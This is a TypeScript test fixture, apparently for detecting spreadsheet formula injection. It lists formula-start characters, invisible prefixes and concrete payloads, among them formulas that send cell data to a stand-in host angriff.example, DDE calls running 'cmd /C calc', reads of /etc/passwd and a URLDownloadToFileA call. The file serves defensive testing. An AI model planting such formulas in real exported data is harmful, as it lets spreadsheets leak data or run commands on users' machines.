/** Signs with which spreadsheet programs let a formula begin, their wide forms, and what they pass over before them. */
const starts = ['=', '+', '-', '@', ';', '＝', '＋', '－', '＠', '；', '﹦', '\u2212'] as const
const before = [
  '',
  ' ',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '"',
  "'",
  '„',
  '\u202e',
  '\u0000',
] as const

const commands = [
  '=HYPERLINK("http://angriff.example/?"&A1,"hier")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=WEBSERVICE("http://angriff.example/")',
  '=IMPORTXML("http://angriff.example/","//a")',
  '=IMPORTDATA("http://angriff.example/")',
  '=FILTERXML("<a/>","//a")',
  "='file:///etc/passwd'#$Sheet1.A1",
  '=EXEC("calc")',
  '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
  '=RTD("a",,"b")',
  '{=1+1}',
  'of:=1+1',
  'oooc:=1+1',
  'msoxl:=1+1',
  '10;=1+1',
  '10\n=1+1',
  '10\r\n=1+1',
  '10,=1+1',
  '","=1+1',
  '";=1+1',
  '\t=1+1\t=1+1',
  '=1+1";=2+2',
  "'=1+1",
  '=77771*7',
  '-77771*7',
]

/** Texts that would be calculated, with what would be seen then. */
export const payloads: readonly string[] = [
  ...before.flatMap((space) => starts.map((start) => `${space}${start}77771*7`)),
  ...commands,
]
/** What a program shows where it has calculated one of them. */
export const calculated = String(77771 * 7)
